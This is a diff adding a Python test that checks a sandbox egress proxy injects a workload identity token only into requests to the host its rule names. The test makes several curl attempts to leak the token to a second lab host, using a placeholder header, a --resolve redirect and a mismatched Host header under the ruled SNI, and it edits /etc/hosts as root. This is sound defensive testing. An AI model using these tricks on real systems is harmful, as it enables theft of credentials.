@@ -162,3 +162,29 @@ def test_slow_request_head_is_cut_off(sbx: Sandbox, lab: EgressLab) -> None:
     out = sbx.commands.run(f"python3 -c {shlex.quote(probe)}", timeout=150).stdout.strip()
     assert out == "b''"
     assert len(lab.lines()) == before
+
+
+def test_a_workload_identity_token_only_reaches_the_host_its_rule_names(server: Server, lab: EgressLab) -> None:
+    """A sandbox with ``iam`` tries to get a JWT-SVID sent elsewhere: its own header naming the
+    placeholder (never expanded: only rule headers are), plain HTTP with the ruled name to
+    another address, SNI of the ruled host with another Host. The canary: any JWT in the
+    other host's log."""
+    sandbox = Sandbox.create(timeout=120, iam={"tokens": {"aws": {"audience": "sts.amazonaws.com",
+                                                                   "token_type": "JWT-SVID"}}},
+                             network={"rules": {API_NAME: [{"transform": {"headers": {
+                                 "Authorization": "Bearer ${e2b.identity.tokens.aws}"}}}]}})
+    try:
+        sandbox.commands.run(f"printf {shlex.quote(lab.hosts_file())} >> /etc/hosts", user="root")
+        before = len(lab.lines())
+        placeholder = "Authorization: Bearer ${e2b.identity.tokens.aws}"
+        _curl(sandbox, "-H", placeholder, f"https://{OTHER_NAME}/")
+        _curl(sandbox, "-H", placeholder, f"http://{OTHER_NAME}/")
+        _curl(sandbox, "--resolve", f"{API_NAME}:80:{lab.other_ip}", f"http://{API_NAME}/")
+        _curl(sandbox, "-H", f"Host: {OTHER_NAME}", f"https://{API_NAME}/")
+        assert "auth=yes" in _curl(sandbox, f"https://{API_NAME}/")   # the path is real
+        new = lab.lines()[before:]
+        assert any(line.startswith(f"https {lab.api_ip} ") and "auth=Bearer ey" in line for line in new)
+        assert not [line for line in new if "eyJ" in line and not line.startswith(f"https {lab.api_ip} ")], new
+        assert [line for line in new if "${e2b.identity.tokens.aws}" in line]   # the sandbox's own, literal
+    finally:
+        sandbox.kill()
